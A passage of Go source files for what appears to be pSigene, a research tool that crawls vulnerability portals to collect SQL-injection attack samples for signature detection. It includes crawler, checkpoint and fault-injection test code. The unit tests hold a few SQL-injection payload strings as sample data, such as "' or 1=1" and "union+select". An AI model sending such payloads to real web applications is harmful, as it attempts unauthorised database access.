				return c.partial(st, err)
			}
			continue
		}
		res.Health.PagesFetched++
		res.PagesFetched = res.Health.PagesFetched

		st.harvest(body)
		for _, link := range extractLinks(body) {
			abs, ok := resolveSameSite(res.Portal, page, link)
			if ok && !st.seenPages[abs] {
				st.queue = append(st.queue, abs)
			}
		}
		if err := c.tick(st); err != nil {
			return c.partial(st, err)
		}
		c.sleep(c.opts.Delay)
	}
	return c.finish(st)
}

// apiPage is one JSON search response.
type apiPage struct {
	Results []struct {
		CVE     string   `json:"cve"`
		Samples []string `json:"samples"`
	} `json:"results"`
	Next *int `json:"next"`
}

func (c *Crawler) crawlAPI(st *crawlState) (*Result, error) {
	res := st.res
	for !st.done && c.processed(st) < c.opts.MaxPages {
		url := fmt.Sprintf("%s/api/search?offset=%d&limit=%d", res.Portal, st.offset, c.opts.APILimit)
		var page apiPage
		validate := func(body string) error {
			page = apiPage{}
			return json.Unmarshal([]byte(body), &page)
		}
		_, _, err := c.fetch(url, validate, &res.Health)
		if err != nil {
			quarantine(st, url)
			st.offset += c.opts.APILimit // skip the lost window, keep paging
			if err := c.tick(st); err != nil {
				return c.partial(st, err)
			}
			continue
		}
		res.Health.PagesFetched++
		res.PagesFetched = res.Health.PagesFetched

		for _, entry := range page.Results {
			if entry.CVE != "" {
				st.cves[entry.CVE] = true
			}
			for _, raw := range entry.Samples {
				st.addSample(raw)
			}
		}
		if page.Next == nil {
			st.done = true
		} else {
			st.offset = *page.Next
		}
		if err := c.tick(st); err != nil {
			return c.partial(st, err)
		}
		if !st.done {
			c.sleep(c.opts.Delay)
		}
	}
	return c.finish(st)
}

// harvest extracts CVEs and attack samples from an HTML page body.
func (st *crawlState) harvest(body string) {
	for _, cve := range cveRe.FindAllString(body, -1) {
		st.cves[cve] = true
	}
	for _, raw := range ExtractSampleURLs(body) {
		st.addSample(raw)
	}
}

// addSample records one raw sample URL, deduplicated in first-seen order.
func (st *crawlState) addSample(raw string) {
	if st.seenSamples[raw] {
		return
	}
	st.seenSamples[raw] = true
	req, err := httpx.ParseURL(raw)
	if err != nil || req.RawQuery == "" {
		return
	}
	req.Malicious = true
	req.Tool = "crawl"
	st.res.Samples = append(st.res.Samples, req)
}

// finish seals the result. A portal that yielded nothing despite
// attempted pages is reported as down (ErrNoPages) with its (empty but
// health-bearing) result attached.
func (c *Crawler) finish(st *crawlState) (*Result, error) {
	st.res.CVEs = sortedKeys(st.cves)
	if st.res.Health.PagesFetched == 0 && st.res.Health.PagesSkipped > 0 {
		return st.res, fmt.Errorf("%s: %w", st.res.Portal, ErrNoPages)
	}
	return st.res, nil
}

// partial seals a result cut short by a checkpoint callback (ErrStop or a
// persistence failure).
func (c *Crawler) partial(st *crawlState, err error) (*Result, error) {
	st.res.CVEs = sortedKeys(st.cves)
	return st.res, err
}

// CrawlAll crawls multiple portals (auto-detecting API portals by probing
// /api/search) and merges their samples, deduplicated across portals.
// Portal failures no longer abort the run: every portal contributes what
// it can, per-portal health rides on each Result, and the joined error
// (errors.Join) reports which portals degraded or died. Callers decide
// whether the partial corpus clears their coverage floor.
func (c *Crawler) CrawlAll(baseURLs []string) ([]httpx.Request, []*Result, error) {
	var all []httpx.Request
	var results []*Result
	var errs []error
	seen := map[string]bool{}
	for _, base := range baseURLs {
		var (
			res *Result
			err error
		)
		if c.probeAPI(base) {
			res, err = c.CrawlAPI(base)
		} else {
			res, err = c.CrawlHTML(base)
		}
		if err != nil {
			errs = append(errs, fmt.Errorf("crawl %s: %w", base, err))
		}
		if res == nil {
			continue
		}
		results = append(results, res)
		for _, s := range res.Samples {
			key := s.URL()
			if !seen[key] {
				seen[key] = true
				all = append(all, s)
			}
		}
	}
	return all, results, errors.Join(errs...)
}

// probeAPI detects a JSON search API through the resilient fetch path, so
// a transient fault on the probe does not misclassify the portal.
func (c *Crawler) probeAPI(base string) bool {
	var scratch Health
	_, ctype, err := c.fetch(base+"/api/search?offset=0&limit=1", nil, &scratch)
	return err == nil && strings.Contains(ctype, "json")
}

// ExtractSampleURLs pulls attack sample URLs out of an advisory page: lines
// inside <pre> blocks that parse as URLs with a query string.
func ExtractSampleURLs(html string) []string {
	var out []string
	for _, m := range preRe.FindAllStringSubmatch(html, -1) {
		for _, line := range strings.Split(m[2], "\n") {
			line = strings.TrimSpace(htmlUnescape(line))
			if line == "" || !strings.Contains(line, "?") {
				continue
			}
			if strings.HasPrefix(line, "http://") || strings.HasPrefix(line, "https://") || strings.HasPrefix(line, "/") {
				out = append(out, line)
			}
		}
	}
	return out
}

// extractLinks returns all href targets on the page.
func extractLinks(html string) []string {
	var out []string
	for _, m := range hrefRe.FindAllStringSubmatch(html, -1) {
		out = append(out, htmlUnescape(m[1]))
	}
	return out
}

// resolveSameSite resolves link against the current page and reports
// whether it stays on the portal's site.
func resolveSameSite(base, page, link string) (string, bool) {
	if strings.HasPrefix(link, "http://") || strings.HasPrefix(link, "https://") {
		if strings.HasPrefix(link, base) {
			return link, true
		}
		return "", false
	}
	if strings.HasPrefix(link, "/") {
		return base + link, true
	}
	// Relative link: resolve against the page's directory.
	dir := page
	if i := strings.LastIndexByte(dir, '/'); i > len(base) {
		dir = dir[:i+1]
	} else {
		dir = base + "/"
	}
	return dir + link, true
}

func htmlUnescape(s string) string {
	r := strings.NewReplacer("&amp;", "&", "&lt;", "<", "&gt;", ">", "&quot;", `"`)
	return r.Replace(s)
}

func sortedKeys(m map[string]bool) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
