// Package crawl implements pSigene's first phase: the webcrawler that
// collects SQLi attack samples from public cybersecurity portals. It
// understands two portal surfaces — paginated HTML listings with advisory
// detail pages, and OSVDB-style JSON search APIs — extracts proof-of-concept
// URLs from fetched pages, and converts each into an attack request by the
// paper's rule: keep the query payload, drop address, port and path.
package crawl

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"sort"
	"strings"
	"time"

	"psigene/internal/httpx"
)

// Options configures a crawler.
type Options struct {
	// MaxPages bounds the number of fetched pages per portal. 0 means 200.
	MaxPages int
	// Delay is the politeness delay between fetches. 0 means none (tests).
	Delay time.Duration
	// Client is the HTTP client; nil means http.DefaultClient.
	Client *http.Client
}

func (o Options) withDefaults() Options {
	if o.MaxPages <= 0 {
		o.MaxPages = 200
	}
	if o.Client == nil {
		o.Client = http.DefaultClient
	}
	return o
}

// Crawler fetches portals and extracts attack samples.
type Crawler struct {
	opts Options
}

// New returns a crawler.
func New(opts Options) *Crawler {
	return &Crawler{opts: opts.withDefaults()}
}

// Result is the outcome of crawling one portal.
type Result struct {
	// Portal is the crawled base URL.
	Portal string
	// Samples are the extracted attack requests (deduplicated, in
	// first-seen order).
	Samples []httpx.Request
	// PagesFetched counts HTTP fetches performed.
	PagesFetched int
	// CVEs lists CVE identifiers seen on fetched pages.
	CVEs []string
}

var (
	hrefRe = regexp.MustCompile(`(?i)href="([^"]+)"`)
	preRe  = regexp.MustCompile(`(?is)<(pre|code)[^>]*>(.*?)</(?:pre|code)>`)
	cveRe  = regexp.MustCompile(`CVE-\d{4}-\d{4,}`)
)

// CrawlHTML breadth-first crawls an HTML portal starting at baseURL,
// following same-site links, and extracts attack sample URLs from <pre>
// proof-of-concept blocks.
func (c *Crawler) CrawlHTML(baseURL string) (*Result, error) {
	res := &Result{Portal: baseURL}
	seenPages := map[string]bool{}
	seenSamples := map[string]bool{}
	cves := map[string]bool{}
	queue := []string{baseURL + "/"}

	for len(queue) > 0 && res.PagesFetched < c.opts.MaxPages {
		page := queue[0]
		queue = queue[1:]
		if seenPages[page] {
			continue
		}
		seenPages[page] = true

		body, err := c.fetch(page)
		if err != nil {
			return nil, fmt.Errorf("fetch %s: %w", page, err)
		}
		res.PagesFetched++

		for _, cve := range cveRe.FindAllString(body, -1) {
			cves[cve] = true
		}
		for _, raw := range ExtractSampleURLs(body) {
			if seenSamples[raw] {
				continue
			}
			seenSamples[raw] = true
			req, err := httpx.ParseURL(raw)
			if err != nil || req.RawQuery == "" {
				continue
			}
			req.Malicious = true
			req.Tool = "crawl"
			res.Samples = append(res.Samples, req)
		}
		for _, link := range extractLinks(body) {
			abs, ok := resolveSameSite(baseURL, page, link)
			if ok && !seenPages[abs] {
				queue = append(queue, abs)
			}
		}
		if c.opts.Delay > 0 {
			time.Sleep(c.opts.Delay)
		}
	}
	res.CVEs = sortedKeys(cves)
	return res, nil
}

// CrawlAPI pages through an OSVDB-style JSON search API at
// baseURL/api/search, collecting samples from each result entry.
func (c *Crawler) CrawlAPI(baseURL string) (*Result, error) {
	res := &Result{Portal: baseURL}
	seenSamples := map[string]bool{}
	cves := map[string]bool{}
	offset := 0
	for res.PagesFetched < c.opts.MaxPages {
		body, err := c.fetch(fmt.Sprintf("%s/api/search?offset=%d", baseURL, offset))
		if err != nil {
			return nil, fmt.Errorf("api fetch offset %d: %w", offset, err)
		}
		res.PagesFetched++

		var page struct {
			Results []struct {
				CVE     string   `json:"cve"`
				Samples []string `json:"samples"`
			} `json:"results"`
			Next *int `json:"next"`
		}
		if err := json.Unmarshal([]byte(body), &page); err != nil {
			return nil, fmt.Errorf("api response offset %d: %w", offset, err)
		}
		for _, entry := range page.Results {
			if entry.CVE != "" {
				cves[entry.CVE] = true
			}
			for _, raw := range entry.Samples {
				if seenSamples[raw] {
					continue
				}
				seenSamples[raw] = true
				req, err := httpx.ParseURL(raw)
				if err != nil || req.RawQuery == "" {
					continue
				}
				req.Malicious = true
				req.Tool = "crawl"
				res.Samples = append(res.Samples, req)
			}
		}
		if page.Next == nil {
			break
		}
		offset = *page.Next
		if c.opts.Delay > 0 {
			time.Sleep(c.opts.Delay)
		}
	}
	res.CVEs = sortedKeys(cves)
	return res, nil
}

// CrawlAll crawls multiple portals (auto-detecting API portals by probing
// /api/search) and merges their samples, deduplicated across portals.
func (c *Crawler) CrawlAll(baseURLs []string) ([]httpx.Request, []*Result, error) {
	var all []httpx.Request
	var results []*Result
	seen := map[string]bool{}
	for _, base := range baseURLs {
		var (
			res *Result
			err error
		)
		if c.probeAPI(base) {
			res, err = c.CrawlAPI(base)
		} else {
			res, err = c.CrawlHTML(base)
		}
		if err != nil {
			return nil, nil, fmt.Errorf("crawl %s: %w", base, err)
		}
		results = append(results, res)
		for _, s := range res.Samples {
			key := s.URL()
			if !seen[key] {
				seen[key] = true
				all = append(all, s)
			}
		}
	}
	return all, results, nil
}

func (c *Crawler) probeAPI(base string) bool {
	resp, err := c.opts.Client.Get(base + "/api/search?offset=0&limit=1")
	if err != nil {
		return false
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, resp.Body)
	return resp.StatusCode == http.StatusOK &&
		strings.Contains(resp.Header.Get("Content-Type"), "json")
}

func (c *Crawler) fetch(url string) (string, error) {
	resp, err := c.opts.Client.Get(url)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return "", fmt.Errorf("status %d", resp.StatusCode)
	}
	body, err := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	if err != nil {
		return "", err
	}
	return string(body), nil
}

// ExtractSampleURLs pulls attack sample URLs out of an advisory page: lines
// inside <pre> blocks that parse as URLs with a query string.
func ExtractSampleURLs(html string) []string {
	var out []string
	for _, m := range preRe.FindAllStringSubmatch(html, -1) {
		for _, line := range strings.Split(m[2], "\n") {
			line = strings.TrimSpace(htmlUnescape(line))
			if line == "" || !strings.Contains(line, "?") {
				continue
			}
			if strings.HasPrefix(line, "http://") || strings.HasPrefix(line, "https://") || strings.HasPrefix(line, "/") {
				out = append(out, line)
			}
		}
	}
	return out
}

// extractLinks returns all href targets on the page.
func extractLinks(html string) []string {
	var out []string
	for _, m := range hrefRe.FindAllStringSubmatch(html, -1) {
		out = append(out, htmlUnescape(m[1]))
	}
	return out
}

// resolveSameSite resolves link against the current page and reports
// whether it stays on the portal's site.
func resolveSameSite(base, page, link string) (string, bool) {
	if strings.HasPrefix(link, "http://") || strings.HasPrefix(link, "https://") {
		if strings.HasPrefix(link, base) {
			return link, true
		}
		return "", false
	}
	if strings.HasPrefix(link, "/") {
		return base + link, true
	}
	// Relative link: resolve against the page's directory.
	dir := page
	if i := strings.LastIndexByte(dir, '/'); i > len(base) {
		dir = dir[:i+1]
	} else {
		dir = base + "/"
	}
	return dir + link, true
}

func htmlUnescape(s string) string {
	r := strings.NewReplacer("&amp;", "&", "&lt;", "<", "&gt;", ">", "&quot;", `"`)
	return r.Replace(s)
}

func sortedKeys(m map[string]bool) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
