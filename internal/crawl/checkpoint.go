package crawl

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"sort"

	"psigene/internal/httpx"
)

// ErrStop is returned by a checkpoint callback to halt the crawl cleanly.
// The crawler stops after the checkpoint it just delivered, so resuming
// from that checkpoint continues exactly where the crawl left off.
var ErrStop = errors.New("crawl: stop requested at checkpoint")

// checkpointVersion guards the on-disk format.
const checkpointVersion = 1

// Checkpoint is the full serializable state of a crawl in progress:
// everything needed to kill the process and resume later with a
// bit-identical final corpus. Samples keep their first-seen order, the
// frontier keeps its BFS order, and the per-host circuit breakers carry
// over, so the resumed crawl is indistinguishable from one that never
// stopped.
type Checkpoint struct {
	// Version is the checkpoint format version.
	Version int `json:"version"`
	// Portal is the crawled base URL; Kind is "html" or "api".
	Portal string `json:"portal"`
	Kind   string `json:"kind"`
	// Frontier is the pending BFS queue (HTML crawls).
	Frontier []string `json:"frontier,omitempty"`
	// Offset is the next API paging offset (API crawls); Done marks an
	// API crawl that reached the final page.
	Offset int  `json:"offset,omitempty"`
	Done   bool `json:"done,omitempty"`
	// Visited are processed page URLs (fetched or quarantined), sorted.
	Visited []string `json:"visited,omitempty"`
	// SeenSamples are raw sample URLs already collected, sorted (the
	// dedup set; Samples keeps the order).
	SeenSamples []string `json:"seen_samples,omitempty"`
	// Samples are the collected attack requests in first-seen order.
	Samples []httpx.Request `json:"samples,omitempty"`
	// CVEs are the CVE identifiers seen so far, sorted.
	CVEs []string `json:"cves,omitempty"`
	// Health carries the crawl's resilience counters so far.
	Health Health `json:"health"`
	// Breakers is the per-host circuit-breaker state.
	Breakers map[string]BreakerSnapshot `json:"breakers,omitempty"`
}

// Encode writes the checkpoint as JSON.
func (cp *Checkpoint) Encode(w io.Writer) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", " ")
	return enc.Encode(cp)
}

// DecodeCheckpoint reads a JSON checkpoint.
func DecodeCheckpoint(r io.Reader) (*Checkpoint, error) {
	var cp Checkpoint
	if err := json.NewDecoder(r).Decode(&cp); err != nil {
		return nil, fmt.Errorf("crawl: decode checkpoint: %w", err)
	}
	if cp.Version != checkpointVersion {
		return nil, fmt.Errorf("crawl: checkpoint version %d, want %d", cp.Version, checkpointVersion)
	}
	if cp.Kind != "html" && cp.Kind != "api" {
		return nil, fmt.Errorf("crawl: checkpoint kind %q", cp.Kind)
	}
	return &cp, nil
}

// SaveCheckpoint atomically writes the checkpoint to path (temp file +
// rename), so a kill mid-write never corrupts the previous checkpoint.
func SaveCheckpoint(cp *Checkpoint, path string) error {
	tmp := path + ".tmp"
	f, err := os.Create(tmp)
	if err != nil {
		return err
	}
	if err := cp.Encode(f); err != nil {
		_ = f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}

// LoadCheckpoint reads a checkpoint written by SaveCheckpoint.
func LoadCheckpoint(path string) (*Checkpoint, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return DecodeCheckpoint(f)
}

// crawlState is the live form of a Checkpoint.
type crawlState struct {
	res         *Result
	kind        string
	queue       []string
	offset      int
	done        bool
	seenPages   map[string]bool
	seenSamples map[string]bool
	cves        map[string]bool
	sincePoint  int // pages processed since the last checkpoint
}

func newState(kind, base string) *crawlState {
	st := &crawlState{
		res:         &Result{Portal: base},
		kind:        kind,
		seenPages:   map[string]bool{},
		seenSamples: map[string]bool{},
		cves:        map[string]bool{},
	}
	if kind == "html" {
		st.queue = []string{base + "/"}
	}
	return st
}

// stateFromCheckpoint rebuilds the live crawl state.
func stateFromCheckpoint(cp *Checkpoint) *crawlState {
	st := &crawlState{
		res: &Result{
			Portal:       cp.Portal,
			Samples:      append([]httpx.Request(nil), cp.Samples...),
			PagesFetched: cp.Health.PagesFetched,
			Health:       cp.Health,
		},
		kind:        cp.Kind,
		queue:       append([]string(nil), cp.Frontier...),
		offset:      cp.Offset,
		done:        cp.Done,
		seenPages:   map[string]bool{},
		seenSamples: map[string]bool{},
		cves:        map[string]bool{},
	}
	st.res.Health.Quarantined = append([]string(nil), cp.Health.Quarantined...)
	for _, p := range cp.Visited {
		st.seenPages[p] = true
	}
	for _, s := range cp.SeenSamples {
		st.seenSamples[s] = true
	}
	for _, c := range cp.CVEs {
		st.cves[c] = true
	}
	return st
}

// checkpoint snapshots the crawl state. Map-backed sets are emitted
// sorted, so identical states encode to identical bytes.
func (c *Crawler) checkpoint(st *crawlState) *Checkpoint {
	cp := &Checkpoint{
		Version:     checkpointVersion,
		Portal:      st.res.Portal,
		Kind:        st.kind,
		Frontier:    append([]string(nil), st.queue...),
		Offset:      st.offset,
		Done:        st.done,
		Visited:     sortedKeys(st.seenPages),
		SeenSamples: sortedKeys(st.seenSamples),
		Samples:     append([]httpx.Request(nil), st.res.Samples...),
		CVEs:        sortedKeys(st.cves),
		Health:      st.res.Health,
	}
	cp.Health.Quarantined = append([]string(nil), st.res.Health.Quarantined...)
	if len(c.breakers) > 0 {
		cp.Breakers = make(map[string]BreakerSnapshot, len(c.breakers))
		hosts := make([]string, 0, len(c.breakers))
		for h := range c.breakers {
			hosts = append(hosts, h)
		}
		sort.Strings(hosts)
		for _, h := range hosts {
			cp.Breakers[h] = c.breakers[h].Snapshot()
		}
	}
	return cp
}

// restoreBreakers installs checkpointed breaker state into the crawler.
func (c *Crawler) restoreBreakers(snaps map[string]BreakerSnapshot) {
	for host, s := range snaps {
		c.breakerFor(host).Restore(s)
	}
}

// tick runs the page-count checkpoint trigger; a callback returning
// ErrStop (or any other error) aborts the crawl loop.
func (c *Crawler) tick(st *crawlState) error {
	st.sincePoint++
	if c.opts.CheckpointEvery <= 0 || c.opts.Checkpoint == nil ||
		st.sincePoint < c.opts.CheckpointEvery {
		return nil
	}
	st.sincePoint = 0
	if err := c.opts.Checkpoint(c.checkpoint(st)); err != nil {
		return fmt.Errorf("crawl %s: %w", st.res.Portal, err)
	}
	return nil
}
