package crawl

import (
	"errors"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"psigene/internal/attackgen"
	"psigene/internal/portal"
)

func startPortal(t *testing.T, name string, style portal.Style, entries int, seed int64) *httptest.Server {
	t.Helper()
	gen := attackgen.NewGenerator(attackgen.CrawlProfile(), seed)
	p := portal.New(name, style, 5, portal.GenerateEntries(gen, entries))
	srv := httptest.NewServer(p.Handler())
	t.Cleanup(srv.Close)
	return srv
}

func TestCrawlHTMLCollectsSamples(t *testing.T) {
	srv := startPortal(t, "exploit-db", portal.StyleHTML, 15, 1)
	c := New(Options{Client: srv.Client()})
	res, err := c.CrawlHTML(srv.URL)
	if err != nil {
		t.Fatalf("CrawlHTML: %v", err)
	}
	if len(res.Samples) == 0 {
		t.Fatal("no samples extracted")
	}
	for _, s := range res.Samples {
		if !s.Malicious || s.Tool != "crawl" {
			t.Fatalf("sample not labeled: %+v", s)
		}
		if s.RawQuery == "" {
			t.Fatalf("sample without query payload: %+v", s)
		}
	}
	if res.PagesFetched < 4 {
		t.Fatalf("fetched only %d pages — pagination not followed", res.PagesFetched)
	}
	// The Table I CVEs must be discovered.
	joined := strings.Join(res.CVEs, ",")
	if !strings.Contains(joined, "CVE-2012-3554") {
		t.Fatalf("CVEs=%v, want Table I entries", res.CVEs)
	}
}

func TestCrawlHTMLRespectsMaxPages(t *testing.T) {
	srv := startPortal(t, "big", portal.StyleHTML, 100, 2)
	c := New(Options{Client: srv.Client(), MaxPages: 3})
	res, err := c.CrawlHTML(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	if res.PagesFetched > 3 {
		t.Fatalf("fetched %d pages, cap was 3", res.PagesFetched)
	}
}

func TestCrawlAPI(t *testing.T) {
	srv := startPortal(t, "osvdb", portal.StyleAPI, 23, 3)
	c := New(Options{Client: srv.Client()})
	res, err := c.CrawlAPI(srv.URL)
	if err != nil {
		t.Fatalf("CrawlAPI: %v", err)
	}
	if len(res.Samples) == 0 {
		t.Fatal("no samples from API")
	}
	if res.PagesFetched < 2 {
		t.Fatalf("fetched %d pages — offset paging not followed", res.PagesFetched)
	}
}

func TestCrawlAllMergesAndDedupes(t *testing.T) {
	html := startPortal(t, "exploit-db", portal.StyleHTML, 10, 4)
	api := startPortal(t, "osvdb", portal.StyleAPI, 10, 5)
	c := New(Options{Client: html.Client()})
	samples, results, err := c.CrawlAll([]string{html.URL, api.URL})
	if err != nil {
		t.Fatalf("CrawlAll: %v", err)
	}
	if len(results) != 2 {
		t.Fatalf("got %d results", len(results))
	}
	if len(samples) == 0 {
		t.Fatal("no merged samples")
	}
	seen := map[string]bool{}
	for _, s := range samples {
		key := s.URL()
		if seen[key] {
			t.Fatalf("duplicate sample %s", key)
		}
		seen[key] = true
	}
}

func TestCrawlErrors(t *testing.T) {
	c := New(Options{MaxPages: 2, Sleep: func(time.Duration) {}, Timeout: 500 * time.Millisecond})
	res, err := c.CrawlHTML("http://127.0.0.1:1")
	if !errors.Is(err, ErrNoPages) {
		t.Fatalf("unreachable portal: err = %v, want ErrNoPages", err)
	}
	if res == nil || res.Health.PagesSkipped == 0 {
		t.Fatalf("unreachable portal: want partial result with skipped pages, got %+v", res)
	}
	if _, err := c.CrawlAPI("http://127.0.0.1:1"); !errors.Is(err, ErrNoPages) {
		t.Fatalf("unreachable API: err = %v, want ErrNoPages", err)
	}
}

func TestExtractSampleURLs(t *testing.T) {
	html := `<html><pre class="poc">
http://x.com/a.php?id=1' or 1=1
/local/path.php?q=union+select
not a url
http://x.com/noquery.php
</pre>
<pre>https://y.org/b.jsp?p=1&amp;r=2</pre></html>`
	got := ExtractSampleURLs(html)
	if len(got) != 3 {
		t.Fatalf("extracted %v, want 3 URLs", got)
	}
	if got[2] != "https://y.org/b.jsp?p=1&r=2" {
		t.Fatalf("entity unescaping failed: %q", got[2])
	}
}

func TestExtractLinks(t *testing.T) {
	got := extractLinks(`<a href="/x">a</a> <a HREF="/y?p=1">b</a>`)
	if len(got) != 2 || got[1] != "/y?p=1" {
		t.Fatalf("links=%v", got)
	}
}

func TestResolveSameSite(t *testing.T) {
	base := "http://portal.test"
	cases := []struct {
		page, link string
		want       string
		ok         bool
	}{
		{base + "/", "/advisory/1", base + "/advisory/1", true},
		{base + "/", base + "/x", base + "/x", true},
		{base + "/", "http://evil.com/x", "", false},
		{base + "/dir/page", "rel.html", base + "/dir/rel.html", true},
		{base + "/", "rel.html", base + "/rel.html", true},
	}
	for _, c := range cases {
		got, ok := resolveSameSite(base, c.page, c.link)
		if ok != c.ok || (ok && got != c.want) {
			t.Fatalf("resolve(%q,%q) = %q,%v want %q,%v", c.page, c.link, got, ok, c.want, c.ok)
		}
	}
}

func TestCrawlForumPortal(t *testing.T) {
	srv := startPortal(t, "full-disclosure", portal.StyleForum, 12, 9)
	c := New(Options{Client: srv.Client()})
	res, err := c.CrawlHTML(srv.URL)
	if err != nil {
		t.Fatalf("CrawlHTML(forum): %v", err)
	}
	if len(res.Samples) == 0 {
		t.Fatal("no samples extracted from forum <code> blocks")
	}
	if res.PagesFetched < 5 {
		t.Fatalf("fetched only %d pages — threads not followed", res.PagesFetched)
	}
	for _, s := range res.Samples {
		if !s.Malicious || s.RawQuery == "" {
			t.Fatalf("bad sample %+v", s)
		}
	}
}

func TestExtractSampleURLsFromCodeBlocks(t *testing.T) {
	html := `<div class="post"><code>http://x.com/a.php?id=1' or 1=1</code></div>
<code>no url here</code>
<pre>http://y.com/b.php?q=1</pre>`
	got := ExtractSampleURLs(html)
	if len(got) != 2 {
		t.Fatalf("extracted %v, want 2 URLs", got)
	}
}
