package crawl

import (
	"errors"
	"net/http/httptest"
	"reflect"
	"testing"
	"time"

	"psigene/internal/attackgen"
	"psigene/internal/faultify"
	"psigene/internal/portal"
)

// startFaultyPortal serves a deterministic portal behind a fault injector.
// Fault schedules key on method+path, so two servers built with the same
// seeds present identical content AND identical faults regardless of port.
func startFaultyPortal(t *testing.T, style portal.Style, entries int, portalSeed int64, cfg faultify.Config) (*httptest.Server, *faultify.Injector) {
	t.Helper()
	gen := attackgen.NewGenerator(attackgen.CrawlProfile(), portalSeed)
	p := portal.New("chaos", style, 5, portal.GenerateEntries(gen, entries))
	inj := faultify.New(cfg)
	srv := httptest.NewServer(inj.Wrap(p.Handler()))
	t.Cleanup(srv.Close)
	return srv, inj
}

// chaosOptions returns crawler options for fault runs: injected sleeper (no
// wall-clock backoff waits) and a short timeout so hang faults resolve fast.
func chaosOptions(srv *httptest.Server) Options {
	return Options{
		Client:  srv.Client(),
		Sleep:   func(time.Duration) {},
		Timeout: 150 * time.Millisecond,
		Seed:    11,
	}
}

// corpus reduces a result to the comparable crawl outcome: sample URLs in
// first-seen order plus the sorted CVE list.
func corpus(res *Result) ([]string, []string) {
	urls := make([]string, 0, len(res.Samples))
	for _, s := range res.Samples {
		urls = append(urls, s.URL())
	}
	return urls, res.CVEs
}

func TestChaosGoldenDeterminismAndRecovery(t *testing.T) {
	const portalSeed = 21
	faults := faultify.Config{Seed: 42, Rates: faultify.Uniform(0.20), Repeats: 2}

	// Fault-free baseline.
	clean, _ := startFaultyPortal(t, portal.StyleHTML, 30, portalSeed, faultify.Config{Seed: 42})
	base, err := New(chaosOptions(clean)).CrawlHTML(clean.URL)
	if err != nil {
		t.Fatalf("baseline crawl: %v", err)
	}
	baseURLs, baseCVEs := corpus(base)
	if len(baseURLs) == 0 {
		t.Fatal("baseline collected no samples")
	}

	// Two independent faulted runs with identical seeds.
	run := func() (*Result, faultify.Stats) {
		srv, inj := startFaultyPortal(t, portal.StyleHTML, 30, portalSeed, faults)
		res, err := New(chaosOptions(srv)).CrawlHTML(srv.URL)
		if err != nil {
			t.Fatalf("faulted crawl: %v", err)
		}
		return res, inj.Snapshot()
	}
	res1, stats1 := run()
	res2, stats2 := run()

	urls1, cves1 := corpus(res1)
	urls2, cves2 := corpus(res2)
	if !reflect.DeepEqual(urls1, urls2) || !reflect.DeepEqual(cves1, cves2) {
		t.Fatalf("same seeds, different corpora:\nrun1: %d samples %v\nrun2: %d samples %v",
			len(urls1), cves1, len(urls2), cves2)
	}
	if !reflect.DeepEqual(res1.Health, res2.Health) {
		t.Fatalf("same seeds, different health:\nrun1: %+v\nrun2: %+v", res1.Health, res2.Health)
	}
	if stats1.Total() == 0 {
		t.Fatalf("injector never fired (stats %v) — the run exercised nothing", stats1)
	}
	if stats1.Total() != stats2.Total() {
		t.Fatalf("fault counts diverged: %v vs %v", stats1, stats2)
	}

	// Recovery floor: ≥95% of the fault-free corpus survives 20% faults.
	got := map[string]bool{}
	for _, u := range urls1 {
		got[u] = true
	}
	recovered := 0
	for _, u := range baseURLs {
		if got[u] {
			recovered++
		}
	}
	ratio := float64(recovered) / float64(len(baseURLs))
	t.Logf("chaos recovery at 20%% faults: %d/%d samples (%.1f%%), health %+v, faults %v",
		recovered, len(baseURLs), 100*ratio, res1.Health, stats1)
	if ratio < 0.95 {
		t.Fatalf("recovered %.1f%% of baseline corpus, want >= 95%%", 100*ratio)
	}
	if !reflect.DeepEqual(cves1, baseCVEs) {
		t.Fatalf("CVE set degraded: %v vs baseline %v", cves1, baseCVEs)
	}
	if res1.Health.Retries == 0 {
		t.Fatalf("health %+v: faults were injected but nothing retried", res1.Health)
	}
}

// TestChaosRecoverySweep logs the corpus recovery rate across fault rates;
// EXPERIMENTS.md's fault-sweep table is produced from this output.
func TestChaosRecoverySweep(t *testing.T) {
	const portalSeed = 22
	clean, _ := startFaultyPortal(t, portal.StyleHTML, 20, portalSeed, faultify.Config{Seed: 7})
	base, err := New(chaosOptions(clean)).CrawlHTML(clean.URL)
	if err != nil {
		t.Fatal(err)
	}
	baseURLs, _ := corpus(base)

	for _, rate := range []float64{0.10, 0.20, 0.30, 0.40} {
		srv, inj := startFaultyPortal(t, portal.StyleHTML, 20, portalSeed,
			faultify.Config{Seed: 7, Rates: faultify.Uniform(rate), Repeats: 2})
		res, err := New(chaosOptions(srv)).CrawlHTML(srv.URL)
		if err != nil {
			t.Fatalf("rate %.2f: %v", rate, err)
		}
		urls, _ := corpus(res)
		got := map[string]bool{}
		for _, u := range urls {
			got[u] = true
		}
		recovered := 0
		for _, u := range baseURLs {
			if got[u] {
				recovered++
			}
		}
		ratio := float64(recovered) / float64(len(baseURLs))
		st := inj.Snapshot()
		t.Logf("rate %.0f%%: recovery %d/%d (%.1f%%), retries %d, rate-limited %d, malformed %d, skipped %d, injected %d/%d",
			100*rate, recovered, len(baseURLs), 100*ratio,
			res.Health.Retries, res.Health.RateLimited, res.Health.Malformed,
			res.Health.PagesSkipped, st.Total(), st.Requests)
		if rate <= 0.20 && ratio < 0.95 {
			t.Fatalf("rate %.2f: recovery %.1f%% below the 95%% floor", rate, 100*ratio)
		}
	}
}

// killAndResume runs a faulted crawl that stops itself at the stopAt-th
// checkpoint, persists the checkpoint through the JSON round trip, then
// resumes with a fresh crawler against the same server.
func killAndResume(t *testing.T, srv *httptest.Server, kind string, every, stopAt int) *Result {
	t.Helper()
	var captured *Checkpoint
	points := 0
	opts := chaosOptions(srv)
	opts.CheckpointEvery = every
